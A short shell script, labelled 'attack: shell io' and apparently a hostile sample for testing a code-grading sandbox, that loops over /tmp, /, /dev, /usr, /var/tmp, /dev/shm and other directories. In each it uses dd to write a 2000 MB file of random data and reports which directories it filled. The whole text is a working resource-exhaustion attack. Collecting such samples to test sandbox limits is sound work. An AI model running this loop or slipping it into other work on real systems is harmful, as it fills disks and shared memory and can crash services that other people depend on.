# Wants to fill every place that can be written.
# attack: shell io
for place in /tmp / /dev /usr /usr/tmp /cograde /var/tmp /dev/shm; do dd if=/dev/urandom of=$place/big bs=1M count=2000 2>/dev/null && echo "$place written"; ls -l $place/big 2>/dev/null; done
